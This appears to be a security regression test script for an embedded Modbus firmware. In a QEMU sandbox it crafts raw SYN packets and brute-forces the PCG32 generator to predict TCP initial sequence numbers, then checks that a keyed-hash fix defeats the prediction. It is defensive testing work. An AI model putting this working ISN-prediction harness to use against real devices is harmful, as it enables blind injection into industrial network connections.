#!/usr/bin/env python3
"""Issue #38, security review finding 6 under QEMU: a host of the LAN predicts the initial
sequence number (ISN) of another host's TCP connection to the module from ISNs it saw on its
own connections, the first step of blind injection into that connection (RFC 6528 §1).

    isn_predict.py IMAGE [--want refused|succeeded] [--cc CC]   (root: a network namespace, a TAP device)

The firmware image boots in QEMU through its bootloader (as tools/qemu-e2e boots it) on a TAP
device in a network namespace of its own (removed at the end): the module is 10.0.2.15, the
attacker 10.0.2.2, the victim 10.0.2.3 (a second address of this side). The attacker writes
three SYNs to the Modbus port from its own address (new ports each, raw frames on the TAP
device) and reads the ISN of each SYN-ACK (its kernel then resets each half-open connection);
smoltcp's generator (sPCG32, public) is then searched for a state that gives those three in a
row (tools/attacks/pcg32_predict.c, 2^32 candidates), and the next output is the prediction.
The victim then connects (its kernel's TCP) and reads register 40211; its SYN-ACK's ISN is read
off the wire. The attack succeeds when the prediction is that ISN.

On 4cfaadc (smoltcp's ISNs as they come) it succeeds; on this tree (remodaq_net::isn: each ISN
plus a keyed hash of the connection's addresses and ports) no state gives the attacker's three
ISNs, and nothing is predicted. Prints `attack isn-prediction: succeeded|failed (...)` and
`isn: P passed, F failed` (passed when the outcome is the one wanted: refused by default).
"""

import os
import socket
import struct
import subprocess
import sys
import time

IMAGE = sys.argv[1]
WANT = sys.argv[sys.argv.index("--want") + 1] if "--want" in sys.argv else "refused"
CC = sys.argv[sys.argv.index("--cc") + 1] if "--cc" in sys.argv else os.environ.get("CC", "cc")
NS = f"rdqisn{os.getpid() % 10000}"
TAP = "rdqtap0"
MODULE, ATTACKER, VICTIM = "10.0.2.15", "10.0.2.2", "10.0.2.3"
HERE = os.path.dirname(os.path.abspath(__file__))

# What runs inside the namespace: the attacker's SYNs and the victim's connection, with the ISN
# of each SYN-ACK read off the TAP device. Prints the four ISNs.
INSIDE = r"""
import os, random, socket, struct, sys, time
TAP, MODULE, ATTACKER, VICTIM, MODULE_MAC, HERE = sys.argv[1:7]
sys.path.insert(0, HERE)
from tap_qemu import checksum
module_mac = bytes.fromhex(MODULE_MAC.replace(":", ""))
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
raw.bind((TAP, 0))
raw.settimeout(0.2)
own_mac = open(f"/sys/class/net/{TAP}/address").read().strip()
own_mac = bytes.fromhex(own_mac.replace(":", ""))

def syn(port):
    src, dst = socket.inet_aton(ATTACKER), socket.inet_aton(MODULE)
    tcp = bytearray(struct.pack("!HHIIBBHHH", port, 8000, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0))
    tcp[16:18] = struct.pack("!H", checksum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + bytes(tcp)))
    ip = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0x4000, 64, 6, 0, src, dst))
    ip[10:12] = struct.pack("!H", checksum(bytes(ip)))
    return module_mac + own_mac + b"\x08\x00" + bytes(ip) + bytes(tcp)

def syn_ack_to(ip, port, deadline):
    # The module's SYN-ACK to ip:port: its sequence number, the ISN on the wire.
    while time.time() < deadline:
        try:
            frame = raw.recv(2048)
        except socket.timeout:
            continue
        if len(frame) < 54 or frame[12:14] != b"\x08\x00" or frame[23] != 6:
            continue
        ihl = (frame[14] & 15) * 4
        tcp = frame[14 + ihl:]
        if frame[26:30] != socket.inet_aton(MODULE) or frame[30:34] != socket.inet_aton(ip):
            continue
        if struct.unpack("!H", tcp[2:4])[0] != port or tcp[13] & 0x12 != 0x12:
            continue
        return struct.unpack("!I", tcp[4:8])[0]
    return None

isns = []
for i in range(3):
    port = random.randint(20000, 60000)
    raw.send(syn(port))
    isn = syn_ack_to(ATTACKER, port, time.time() + 3)
    if isn is None:
        print("error: no SYN-ACK to the attacker's SYN", i)
        sys.exit(1)
    isns.append(isn)
    time.sleep(0.3)  # this side's kernel resets the half-open connection meanwhile
# The victim's own connection, through its kernel: connect, read 40211, close.
victim = socket.socket()
victim.bind((VICTIM, 0))
port = victim.getsockname()[1]
victim.settimeout(3)
victim.connect((MODULE, 8000))
victim.sendall(struct.pack(">HHHBBHH", 1, 0, 6, 1, 3, 0xD2, 1))
victim.recv(64)
victim.close()
isn = syn_ack_to(VICTIM, port, time.time() + 1)
if isn is None:
    print("error: the victim's SYN-ACK was not seen")
    sys.exit(1)
isns.append(isn)
print(" ".join(str(x) for x in isns))
"""


sys.path.insert(0, HERE)
import tap_qemu  # noqa: E402
from tap_qemu import sh  # noqa: E402


def in_ns(*args):
    return tap_qemu.in_ns(NS, *args)


def modbus_once(source):
    """A connection from `source` in the namespace: connect, read 40211, close; True if answered."""
    script = f"""
import socket, struct
s = socket.socket(); s.bind(("{source}", 0)); s.settimeout(3)
s.connect(("{MODULE}", 8000)); s.sendall(struct.pack(">HHHBBHH", 1, 0, 6, 1, 3, 0xD2, 1))
print(len(s.recv(64)))
"""
    r = subprocess.run(in_ns("python3", "-c", script), capture_output=True, text=True, timeout=30)
    return r.stdout.strip().isdigit() and int(r.stdout.strip()) >= 11


def main():
    outcome, detail = "error", ""
    qemu = None
    predictor = os.path.join(os.path.dirname(IMAGE), "pcg32_predict")
    try:
        sh(CC, "-O2", "-o", predictor, os.path.join(HERE, "pcg32_predict.c"))
        qemu = tap_qemu.start(IMAGE, NS, TAP, [ATTACKER, VICTIM], f"{IMAGE}.isn.qemu.log")
        deadline = time.time() + 90
        while not modbus_once(ATTACKER):
            if time.time() > deadline:
                raise RuntimeError("the module did not answer on the TAP network within 90 s")
            time.sleep(1)
        neigh = sh(*in_ns("ip", "neigh", "show", MODULE, "dev", TAP)).stdout.split()
        module_mac = neigh[neigh.index("lladdr") + 1]
        r = subprocess.run(in_ns("python3", "-c", INSIDE, TAP, MODULE, ATTACKER, VICTIM, module_mac, HERE),
                           capture_output=True, text=True, timeout=60)
        words = r.stdout.split()
        if r.returncode != 0 or len(words) != 4:
            raise RuntimeError(f"the exchange failed: {r.stdout.strip()} {r.stderr.strip()[-300:]}")
        seen = [int(w) for w in words]
        started = time.time()
        guess = sh(predictor, *[str(x) for x in seen[:3]]).stdout.strip()
        spent = time.time() - started
        detail = (f"attacker's ISNs {seen[0]:08x} {seen[1]:08x} {seen[2]:08x}; "
                  f"predicted {guess if guess == 'none' else format(int(guess), '08x')} in {spent:.1f} s; "
                  f"the victim's ISN {seen[3]:08x}")
        outcome = "succeeded" if guess != "none" and int(guess) == seen[3] else "failed"
    except Exception as e:  # noqa: BLE001 - any failure of the harness is an error, reported
        detail = f"{type(e).__name__}: {e}"
    finally:
        tap_qemu.stop(qemu, NS)
    print(f"attack isn-prediction: {outcome} ({detail})")
    good = (outcome == "failed") if WANT == "refused" else (outcome == "succeeded")
    print(f"isn: {int(good)} passed, {int(not good)} failed")
    return 0 if good else 1


if __name__ == "__main__":
    sys.exit(main())
